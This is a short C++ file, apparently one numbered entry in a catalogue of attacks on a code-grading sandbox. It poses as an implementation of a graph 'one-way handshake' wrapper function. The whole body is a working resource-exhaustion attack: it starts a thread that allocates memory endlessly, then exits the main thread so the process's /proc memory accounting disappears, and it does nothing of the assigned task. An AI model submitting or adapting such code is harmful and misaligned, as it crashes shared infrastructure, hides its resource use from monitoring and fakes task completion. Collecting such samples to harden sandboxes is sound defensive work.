// attack: exhaust
// root: resources
// what: the first thread ends, and with it what /proc says of the memory of the process; another one
//   takes memory without end
// list: 9
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

static void* take(void*) {
  while (true)
    if (void* more = malloc(16 << 20)) memset(more, 1, 16 << 20);
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  pthread_t thread;
  pthread_create(&thread, nullptr, take, nullptr);
  syscall(SYS_exit, 0);
}
